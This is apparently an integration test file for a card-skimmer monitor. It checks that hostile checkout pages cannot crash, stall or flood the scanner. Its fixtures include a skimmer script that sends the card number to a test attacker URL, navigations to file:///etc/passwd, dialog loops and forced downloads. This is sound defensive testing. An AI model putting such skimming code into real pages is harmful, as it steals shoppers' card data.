//! Issue 10 §2: nothing a page does crashes, hangs or poisons a scan. Pages that panic the
//! monitor (long non-ASCII ids; a test-only injected panic among healthy pages), overflow the
//! static analysis (a long concatenation, deep nesting), flood it with a 2 MB URL, stall the
//! browser with dialogs, start downloads, or navigate to `file:`/`chrome:` URLs.

use crate::util::{describe, findings_of, page, Workspace};
use skimwatch::model::{FindingKind, PageStatus, ScanReport};
use skimwatch_testshop::{Origin, Resource, Shop};
use std::time::{Duration, Instant};

/// The debug-only panic injection of `skimwatch::scan` (absent from release builds).
const PANIC_ENV: &str = "SKIMWATCH_TEST_PANIC_URL_CONTAINS";

/// One page served at `/p` on the shop, not interacted with.
fn one_page(body: &str) -> Workspace {
    one_page_with(body, "")
}

/// [`one_page`] with extra page configuration lines.
fn one_page_with(body: &str, extra: &str) -> Workspace {
    let shop = Shop::start_in_background().expect("start the test shop");
    shop.set_resource(Origin::Shop, "/p", Resource::html(body));
    let url = shop.url(Origin::Shop, "/p");
    Workspace::with_page_config(shop, "p", &url, &format!("interact = \"none\"\nsettle = \"300ms\"\n{extra}"))
}

/// `scan --format json` with extra environment: exit code, the report and its raw text.
fn scan_env(ws: &Workspace, env: &[(&str, &str)]) -> (i32, ScanReport, String) {
    let mut cmd = ws.skimwatch();
    for (k, v) in env {
        cmd.env(k, v);
    }
    let out = cmd.args(["scan", "--format", "json"]).output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    let report: ScanReport = serde_json::from_str(&stdout).unwrap_or_else(|e| {
        panic!("not the JSON report ({e}):\n{stdout}\nstderr:\n{}", String::from_utf8_lossy(&out.stderr))
    });
    (out.status.code().expect("exit code"), report, stdout)
}

/// Serves `body(thief)` at `/p` (`thief`: an attacker URL), scans it with the shopper, and
/// checks the scan succeeded and caught the card leaving; returns the report.
fn scan_card_page(body: impl FnOnce(&str) -> String) -> ScanReport {
    let shop = Shop::start_in_background().expect("start the test shop");
    let thief = shop.url(Origin::Attacker, "/c");
    shop.set_resource(Origin::Shop, "/p", Resource::html(body(&thief)));
    let url = shop.url(Origin::Shop, "/p");
    let ws = Workspace::with_page_config(shop, "p", &url, "settle = \"300ms\"");
    let (code, report, _) = scan_env(&ws, &[]);
    let p = page(&report, "p");
    assert_eq!(p.status, PageStatus::Ok, "{:?}", p.error);
    assert_eq!(code, 1, "{}", describe(&report));
    assert!(!findings_of(&report, FindingKind::CardExfiltration).is_empty(), "{}", describe(&report));
    report
}

#[test]
fn card_field_with_a_long_non_ascii_id_does_not_crash_the_scan_and_its_reader_is_reported() {
    let id = "é".repeat(2000) + &"😀".repeat(500);
    let report = scan_card_page(|thief| {
        format!(
            r#"<html><body><form>
<input id="{id}" name="cardnumber" autocomplete="cc-number" size="20">
<input id="exp" name="exp" autocomplete="cc-exp"><input id="cvc" name="cvc" autocomplete="cc-csc">
</form><script>
const f = document.getElementById("{id}");
f.addEventListener("input", () => {{}});
f.addEventListener("blur", () => {{ new Image().src = "{thief}?d=" + encodeURIComponent(f.value); }});
</script></body></html>"#
        )
    });
    // The reader of the card field is named, with the page's id cut on a character boundary.
    let p = page(&report, "p");
    let access =
        p.field_access.iter().find(|a| a.access.field.contains('é')).expect("the card field's access is recorded");
    assert!(access.access.field.len() <= 300, "{}", access.access.field.len());
}

#[test]
fn card_field_named_with_lone_surrogates_is_still_typed_into_and_its_thief_caught() {
    // Strings a script builds may hold lone UTF-16 surrogates, which no JSON parser in the
    // monitor accepts: the field's id, name and label carry them (set by script, as HTML text
    // cannot), so any listing of the fields that returned them raw would be lost.
    let report = scan_card_page(|thief| {
        format!(
            r#"<html><body><form>
<label for="cc">Card number</label><input id="cc" autocomplete="cc-number" size="20">
<input id="exp" name="exp" autocomplete="cc-exp"><input id="cvc" name="cvc" autocomplete="cc-csc">
<button type="button" id="pay">Pay</button>
</form><script>
const f = document.getElementById("cc");
const lone = "\ud800", pad = "x".repeat(27);
f.name = "cardnumber" + lone;
f.setAttribute("placeholder", "card " + pad + "\ud83d\ude00" + lone);
document.querySelector("label").textContent = "Card number " + pad + "\ud83d\ude00";
document.getElementById("pay").textContent = "Pay " + "y".repeat(195) + "\ud83d\ude00" + lone;
f.id = "cc" + lone;
f.addEventListener("blur", () => {{ new Image().src = "{thief}?d=" + encodeURIComponent(f.value); }});
</script></body></html>"#
        )
    });
    let typed = &page(&report, "p").interaction.as_ref().expect("the shopper ran").fields_typed;
    assert!(!typed.is_empty(), "the card field was typed into: {}", describe(&report));
}

fn three_pages_one_panicking() -> Workspace {
    let shop = Shop::start_in_background().expect("start the test shop");
    for path in ["/healthy-a", "/panic-me", "/healthy-c"] {
        shop.set_resource(Origin::Shop, path, Resource::html(format!("<h1>{path}</h1><script>var p = 1;</script>")));
    }
    let pages = [
        ("a", shop.url(Origin::Shop, "/healthy-a")),
        ("b", shop.url(Origin::Shop, "/panic-me")),
        ("c", shop.url(Origin::Shop, "/healthy-c")),
    ];
    let ws = Workspace::with_pages(shop, &pages);
    let text = std::fs::read_to_string(&ws.config)
        .unwrap()
        .replace("\n[[page]]\n", "\n[[page]]\ninteract = \"none\"\nsettle = \"300ms\"\n");
    std::fs::write(&ws.config, text + "\n[alerts]\nfailures_before_alert = 1\n").unwrap();
    ws
}

#[test]
fn a_panic_while_scanning_one_page_fails_that_page_alone() {
    let ws = three_pages_one_panicking();
    let (code, report, _) = scan_env(&ws, &[(PANIC_ENV, "/panic-me")]);
    assert_eq!(code, 3, "a page could not be scanned: {report:#?}");
    assert_eq!(report.pages.len(), 3);
    let b = page(&report, "b");
    assert_eq!(b.status, PageStatus::Error);
    let error = b.error.as_deref().unwrap_or_default();
    assert!(error.contains("panic") && error.contains("the other pages are not affected"), "{error}");
    for name in ["a", "c"] {
        let p = page(&report, name);
        assert_eq!(p.status, PageStatus::Ok, "{name}: {:?}", p.error);
        assert!(p.scripts.iter().any(|s| s.kind == skimwatch::model::ScriptKind::Inline), "{name}");
        assert!(!p.findings.is_empty(), "{name}: never approved, so its scripts are new");
    }
    // Without the injection the same pages scan fine (the injection is what failed `b`).
    let (code, report, _) = scan_env(&ws, &[]);
    assert!(report.pages.iter().all(|p| p.status == PageStatus::Ok), "{report:#?}");
    assert_eq!(code, 1);
}

#[test]
fn a_panic_under_watch_makes_that_page_scan_failing_and_the_others_are_scanned() {
    let ws = three_pages_one_panicking();
    let out = ws.skimwatch().args(["watch", "--once"]).env(PANIC_ENV, "/panic-me").output().unwrap();
    assert_eq!(out.status.code(), Some(3), "{}", String::from_utf8_lossy(&out.stderr));
    let conn = rusqlite::Connection::open(ws.dir.path().join("state/skimwatch.db")).unwrap();
    let result = |page: &str| -> (String, Option<String>) {
        conn.query_row("SELECT status, error FROM scans WHERE page = ?1", [page], |r| Ok((r.get(0)?, r.get(1)?)))
            .unwrap()
    };
    let (status, error) = result("b");
    assert_eq!(status, "error");
    assert!(error.as_deref().unwrap_or_default().contains("panic"), "{error:?}");
    assert_eq!(result("a").0, "ok");
    assert_eq!(result("c").0, "ok");
    // One failed scan raises scan_failing (failures_before_alert = 1); the healthy pages do not.
    let failing = |page: &str| -> i64 {
        conn.query_row("SELECT failing_alerted FROM page_health WHERE page = ?1", [page], |r| r.get(0)).unwrap_or(0)
    };
    assert_eq!((failing("a"), failing("b"), failing("c")), (0, 1, 0));
}

/// Approves `/p` with a small inline script, then adds `hostile` as a new inline script and
/// checks that it is reported as new, compared byte for byte, and that the scan finished.
fn new_inline_script_is_reported_byte_for_byte(hostile: &str, why: &str) {
    let ws = one_page("<h1>checkout</h1><script>var ok = 1;</script>");
    ws.approved_baseline();
    ws.shop.set_resource(
        Origin::Shop,
        "/p",
        Resource::html(format!("<h1>checkout</h1><script>var ok = 1;</script><script>{hostile}</script>")),
    );
    let (code, report, _) = scan_env(&ws, &[]);
    let p = page(&report, "p");
    assert_eq!(p.status, PageStatus::Ok, "{:?}", p.error);
    assert_eq!(code, 1, "{}", describe(&report));
    let new = findings_of(&report, FindingKind::NewScript);
    assert_eq!(new.len(), 1, "{}", describe(&report));
    assert!(
        new[0].hints.iter().any(|h| h.contains(why) && h.contains("compared byte for byte")),
        "hints: {:?}",
        new[0].hints
    );
}

#[test]
fn a_long_string_concatenation_as_a_new_inline_script_is_reported_not_a_crash() {
    let terms = vec!["\"a\""; 300_000].join("+");
    new_inline_script_is_reported_byte_for_byte(&format!("var s = {terms};"), "too deeply nested");
}

#[test]
fn deep_nesting_as_a_new_inline_script_is_reported_not_a_crash() {
    // Deeper than this V8 itself refuses to compile (then there is no script to report).
    let n = 3_000;
    new_inline_script_is_reported_byte_for_byte(
        &format!("var x = {}{};", "[".repeat(n), "]".repeat(n)),
        "too deeply nested",
    );
}

#[test]
fn a_2mb_url_of_equals_signs_leaves_the_report_bounded() {
    let shop = Shop::start_in_background().expect("start the test shop");
    // The fragment is not sent (the shop's server refuses a 2 MB request line) but is part of
    // the script's URL as Chromium reports it.
    let query = "=".repeat(2 * 1024 * 1024 - 200);
    let alternating = "A=".repeat(512 * 1024);
    shop.set_resource(Origin::Shop, "/s.js", Resource::js("var loaded = 1;"));
    shop.set_resource(
        Origin::Shop,
        "/p",
        Resource::html(format!(
            "<h1>checkout</h1><script src=\"/s.js?q#{query}\"></script><img src=\"/px?{query}\">\
             <script>new Image().src = '/px2?{alternating}';</script>"
        )),
    );
    let url = shop.url(Origin::Shop, "/p");
    let ws = Workspace::with_page_config(shop, "p", &url, "interact = \"none\"\nsettle = \"300ms\"");
    let started = Instant::now();
    let (code, report, raw) = scan_env(&ws, &[]);
    let p = page(&report, "p");
    assert_eq!(p.status, PageStatus::Ok, "{:?}", p.error);
    assert_eq!(code, 1, "{}", describe(&report));
    assert!(started.elapsed() < Duration::from_secs(100), "took {:?}", started.elapsed());
    assert!(raw.len() < 1024 * 1024, "the report holds the page's 2 MB strings: {} bytes", raw.len());
    assert!(p.scripts.iter().any(|s| s.url.as_deref().is_some_and(|u| u.contains("/s.js"))), "{:#?}", p.scripts);
}

#[test]
fn dialog_loops_are_dismissed_recorded_and_capped() {
    // Each dialog blocks the page until answered, so an unanswered one would hold the load
    // event until the timeout. The timeout is generous because every dialog costs the browser
    // a few milliseconds of CPU, and the suite runs tests side by side.
    let ws = one_page_with(
        "<h1>checkout</h1><script>confirm('Leave this page?'); prompt('Your name?', 'x');\n\
         for (let i = 0; i < 300; i++) alert('alert ' + i + '\\n' + 'é'.repeat(400));\n\
         window.onbeforeunload = (e) => { e.preventDefault(); return 'stay'; };\n\
         document.body.insertAdjacentHTML('beforeend', '<p id=done>done</p>');</script>",
        "timeout = \"120s\"",
    );
    let (code, report, _) = scan_env(&ws, &[]);
    let p = page(&report, "p");
    assert_eq!(p.status, PageStatus::Ok, "{:?}", p.error);
    assert_eq!(code, 1, "the page's scripts are reported as usual: {}", describe(&report));
    assert!(!findings_of(&report, FindingKind::NewScript).is_empty());
    assert_eq!(p.guard.dialog_count, 302, "{:?}", p.guard.dialogs.first());
    assert_eq!(p.guard.dialogs.len(), 20, "the list is capped");
    assert_eq!(
        (p.guard.dialogs[0].kind.as_str(), p.guard.dialogs[0].message.as_str()),
        ("confirm", "Leave this page?")
    );
    assert_eq!(p.guard.dialogs[1].kind, "prompt");
    let alert = &p.guard.dialogs[2];
    assert_eq!(alert.kind, "alert");
    assert!(alert.message.starts_with("alert 0 é") && !alert.message.contains('\n'), "{}", alert.message);
    assert!(alert.message.chars().count() <= 201, "{}", alert.message.chars().count());
}

#[test]
fn downloads_are_denied_and_recorded() {
    let shop = Shop::start_in_background().expect("start the test shop");
    shop.set_resource(
        Origin::Shop,
        "/attach",
        Resource::new("text/csv", "a,b\n1,2\n").with_header("Content-Disposition", "attachment; filename=\"loot.csv\""),
    );
    shop.set_resource(Origin::Shop, "/blob.bin", Resource::new("application/octet-stream", "binary"));
    shop.set_resource(
        Origin::Shop,
        "/p",
        Resource::html(
            "<h1>checkout</h1><a id=d href=\"/blob.bin\" download=\"payload.bin\">x</a><script>\n\
             document.getElementById('d').click();\n\
             setTimeout(() => { location.href = '/attach'; }, 50);</script>",
        ),
    );
    let url = shop.url(Origin::Shop, "/p");
    let ws = Workspace::with_page_config(shop, "p", &url, "interact = \"none\"\nsettle = \"1s\"");
    let home = ws.dir.path().join("home");
    std::fs::create_dir_all(&home).unwrap();
    let out = ws
        .skimwatch()
        .args(["scan", "--format", "json"])
        .current_dir(ws.dir.path())
        .env("HOME", &home)
        .env("XDG_DOWNLOAD_DIR", &home)
        .output()
        .unwrap();
    let report: ScanReport = serde_json::from_slice(&out.stdout).expect("JSON report");
    let p = page(&report, "p");
    assert_eq!(p.status, PageStatus::Ok, "{:?}", p.error);
    let names: Vec<&str> = p.guard.downloads.iter().map(|d| d.filename.as_str()).collect();
    assert!(names.contains(&"payload.bin") && names.contains(&"loot.csv"), "{:?}", p.guard.downloads);
    // Nothing was written anywhere the browser could have put it.
    let mut stack = vec![ws.dir.path().to_path_buf(), std::env::temp_dir()];
    while let Some(dir) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else { continue };
        for e in entries.flatten() {
            let name = e.file_name().to_string_lossy().into_owned();
            assert!(!name.starts_with("payload") && !name.starts_with("loot"), "downloaded: {}", e.path().display());
            if e.file_type().is_ok_and(|t| t.is_dir()) && dir.starts_with(ws.dir.path()) {
                stack.push(e.path());
            }
        }
    }
}

#[test]
fn navigations_to_file_and_chrome_urls_are_refused_and_recorded() {
    let ws = one_page(
        "<h1>checkout</h1><iframe src=\"file:///etc/passwd\"></iframe><iframe src=\"chrome://settings\"></iframe>\
         <script>var kept = 1; setTimeout(() => { location = 'file:///etc/passwd'; }, 20);\n\
         setTimeout(() => { location.href = 'chrome://settings'; }, 60);</script>",
    );
    let (code, report, _) = scan_env(&ws, &[]);
    let p = page(&report, "p");
    assert_eq!(p.status, PageStatus::Ok, "{:?}", p.error);
    assert_eq!(code, 1, "{}", describe(&report));
    assert_eq!(p.http_status, Some(200));
    // The page itself is reported, not the file.
    assert!(p.scripts.iter().all(|s| !s.frame_url.starts_with("file:") && !s.frame_url.starts_with("chrome:")));
    assert!(p.scripts.iter().any(|s| s.kind == skimwatch::model::ScriptKind::Inline));
    let refused: Vec<&str> = p.guard.refused_navigations.iter().map(|r| r.url.as_str()).collect();
    assert!(refused.iter().any(|u| u.starts_with("file:///etc/passwd")), "{:?}", p.guard.refused_navigations);
    assert!(refused.iter().any(|u| u.starts_with("chrome://settings")), "{:?}", p.guard.refused_navigations);
}
